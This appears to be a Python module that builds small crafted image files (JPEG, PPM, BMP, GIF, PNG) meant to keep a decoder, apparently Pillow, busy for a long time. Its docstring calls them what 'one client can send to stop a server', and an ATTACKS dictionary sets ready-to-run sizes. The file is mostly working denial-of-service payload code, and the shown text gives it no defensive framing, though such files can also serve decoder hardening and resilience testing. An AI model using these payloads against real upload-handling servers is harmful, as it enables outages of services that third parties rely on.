"""Small files that keep a decoder busy for long, by kind: what one client can send to stop a server."""

import struct
import zlib
from collections.abc import Callable


def jpeg_segment(marker: int, content: bytes) -> bytes:
    """A marker segment of a JPEG."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def progressive_jpeg(side: int, scans: int) -> bytes:
    """A gray progressive JPEG: one scan of all DC coefficients, and then as many of AC coefficients, all zero."""
    blocks = ((side + 7) // 8) ** 2
    head = jpeg_segment(0xDB, bytes([0]) + bytes([1]) * 64)
    head += jpeg_segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
    head += jpeg_segment(0xC4, b"\x00\1" + bytes(15) + b"\x00")  # code 0: a DC difference of zero
    head += jpeg_segment(0xC4, b"\x10\1" + bytes(15) + b"\xe0")  # code 0: a run of 2^14 blocks without coefficients
    first = jpeg_segment(0xDA, b"\1\1\0\0\0\0") + bytes((blocks + 7) // 8)
    runs = "0" * 15 * -(-blocks // 2**14)
    runs += "1" * (-len(runs) % 8)
    run_bytes = bytes(int(runs[start : start + 8], 2) for start in range(0, len(runs), 8))
    return b"\xff\xd8" + head + first + (jpeg_segment(0xDA, b"\1\1\0\1\x3f\0") + run_bytes) * scans + b"\xff\xd9"


def jpeg_of_segments(count: int) -> bytes:
    """A JPEG whose header is nothing but empty comments."""
    return b"\xff\xd8" + jpeg_segment(0xFE, b"") * count + b"\xff\xd9"


def odd_ppm(side: int) -> bytes:
    """A PPM whose tones end at 254, which Pillow scales value by value."""
    return b"P6 %d %d 254\n" % (side, side) + bytes(side * side * 3)


def commented_ppm(size: int) -> bytes:
    """A PPM with a long comment, which Pillow reads byte by byte."""
    return b"P6\n#" + b"x" * size + b"\n8 8 255\n" + bytes(8 * 8 * 3)


def rle_bmp(side: int, runs: int) -> bytes:
    """A run-length encoded BMP of many runs of one pixel, which Pillow reads one by one."""
    pixels = b"\1\0" * runs + b"\0\1"
    palette = bytes(1024)
    offset = 14 + 40 + len(palette)
    head = struct.pack("<2sIHHI", b"BM", offset + len(pixels), 0, 0, offset)
    return head + struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(pixels), 0, 0, 256, 0) + palette + pixels


def gif_of_comments(size: int) -> bytes:
    """A GIF that begins with a long comment in small parts."""
    return b"GIF89a\x08\0\x08\0\x80\0\0" + bytes(6) + b"\x21\xfe" + b"\x01x" * (size // 2) + b"\0"


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of_chunks(count: int) -> bytes:
    """A PNG with many empty chunks before its pixels."""
    head = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0))
    pixels = png_chunk(b"IDAT", zlib.compress(bytes(9 * 8))) + png_chunk(b"IEND", b"")
    return head + png_chunk(b"abCd", b"") * count + pixels


ATTACKS: dict[str, Callable[[], bytes]] = {
    "progressive JPEG, 20,000 scans": lambda: progressive_jpeg(7000, 20_000),
    "JPEG of 7 million segments": lambda: jpeg_of_segments(7_000_000),
    "PPM up to 254": lambda: odd_ppm(3200),
    "PPM with a comment of 30 MB": lambda: commented_ppm(30_000_000),
    "BMP of 15 million runs": lambda: rle_bmp(7000, 15_000_000),
    "GIF with a comment of 30 MB": lambda: gif_of_comments(30_000_000),
    "PNG of 2.5 million chunks": lambda: png_of_chunks(2_500_000),
}
